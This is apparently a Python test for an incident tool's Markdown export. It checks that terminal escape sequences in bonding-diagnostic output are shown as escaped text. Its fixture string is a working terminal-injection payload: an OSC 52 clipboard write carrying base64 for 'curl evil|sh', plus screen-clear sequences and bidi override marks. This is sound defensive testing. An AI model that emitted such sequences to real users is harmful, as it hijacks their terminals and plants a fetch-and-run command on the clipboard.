"""The Markdown export on a terminal: a host's escape sequences in an output or a value are shown
as text (``\\x1b``), so ``cat``-ing an exported timeline can neither write the clipboard (OSC 52),
clear the screen nor reorder what a reviewer reads (bidi marks)."""

from __future__ import annotations

from pathlib import Path

from incidents import IncidentStore
from incidents.export import export_incident

HOSTILE = "Bonding Mode: active-backup\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b[H\u202eevil\u200b\r\n"


def test_markdown_export_shows_control_characters_as_text(tmp_path: Path) -> None:
    store = IncidentStore.open(f"sqlite:///{tmp_path / 'incidents.sqlite3'}")
    try:
        inc = store.create_incident(host="web-01", bond="bond0", requester="U024BE7LH", channel="#ops")
        store.append(inc.id, actor="bot", kind="triage_step", payload={
            "step": "proc_bonding", "command": "cat /proc/net/bonding/bond0", "exit_status": 0,
            "duration_s": 0.01, "stdout": HOSTILE, "stderr": "\x1b[31mred\x1b[0m"})
        store.append(inc.id, actor="bot", kind="finding", payload={
            "code": "NO_LINK_MONITORING", "severity": "critical", "summary": "mode \x1b[2J" + HOSTILE,
            "evidence": [{"source": "cat /proc/net/bonding/bond0", "line": HOSTILE}]})
        md = export_incident(store, inc.id, "md").text
    finally:
        store.close()
    for raw in ("\x1b", "\x07", "\u202e", "\u200b", "\r"):
        assert raw not in md, repr(raw)
    assert "\\x1b]52;c;Y3VybCBldmlsfHNo\\x07" in md and "\\u202eevil" in md
    assert "Bonding Mode: active-backup" in md
